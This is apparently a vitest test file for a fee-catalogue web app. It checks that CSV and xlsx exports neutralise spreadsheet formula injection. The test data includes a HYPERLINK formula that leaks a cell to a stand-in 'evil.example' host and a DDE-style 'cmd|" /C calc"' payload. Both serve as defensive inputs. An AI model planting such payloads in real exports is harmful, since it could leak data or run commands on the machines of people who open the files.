import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../harness.ts';
import { csvCell, toCsv } from '../../src/platform/csv.ts';
import { newWorkbook } from '../../src/platform/excel.ts';
import { demoDepartmentId } from '../../src/modules/org/index.ts';

describe('platform CSV cells (formula injection)', () => {
  it('defuses cells a spreadsheet would run as a formula and keeps plain numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example","点此")')).toBe(`"'=HYPERLINK(""http://evil.example"",""点此"")"`);
    expect(csvCell('+1+cmd')).toBe("'+1+cmd");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('+3.5')).toBe('+3.5');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('每件 10 元')).toBe('每件 10 元');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
    expect(
      toCsv([
        ['a', '=1'],
        [2, null],
      ]),
    ).toBe("\uFEFFa,'=1\r\n2,\r\n");
  });
});

describe('downloads a fee named like a formula', () => {
  let t: TestApp;
  let reviewer: string;
  beforeAll(async () => {
    t = await createTestApp();
    reviewer = await t.login('zwfw.catalog');
  });
  afterAll(() => t.close());

  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';
  const fee = {
    code: 'FEE-CSV-1',
    name: evil,
    kind: 'administrative_fee',
    basis: '@SUM(1+1)*cmd|" /C calc"!A0',
    standard: '+每件 10 元',
    collectingDepartmentId: demoDepartmentId('zrzy', '990100'),
    effectiveFrom: '2020-01-01',
  };

  it('the public CSV list serves it as text, never as a formula', async () => {
    const created = await t.app.inject({ method: 'POST', url: '/api/workbench/catalog/fees', headers: { cookie: reviewer }, payload: fee });
    expect(created.statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: '/api/catalog/lists/fees/download' });
    expect(res.statusCode).toBe(200);
    const line = res.body.split('\r\n').find((l) => l.startsWith('FEE-CSV-1,'));
    expect(line).toBeDefined();
    const cells = parseCsvLine(line!);
    expect(cells[1]).toBe(`'${evil}`);
    expect(cells[3]).toBe(`'${fee.basis}`);
    expect(cells[4]).toBe(`'${fee.standard}`);
    // No cell of any line starts a formula.
    for (const l of res.body
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)) {
      for (const c of parseCsvLine(l)) expect(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(c), `${c} in ${l}`).toBe(false);
    }
  });

  it('the xlsx export writes it as a text cell (exceljs writes strings, never formulas)', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/workbench/catalog/export', headers: { cookie: reviewer } });
    expect(res.statusCode).toBe(200);
    const wb = await newWorkbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    let found = false;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula ?? null).toBeNull();
          if (cell.value === evil) found = true;
        }),
      ),
    );
    expect(found).toBe(true);
  });
});

/** RFC 4180 fields of one line (no line breaks inside quotes in these rows). */
function parseCsvLine(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let s = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          s += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else s += line[i++];
      }
      out.push(s);
      i++; // the comma
    } else {
      const end = line.indexOf(',', i);
      out.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return out;
}
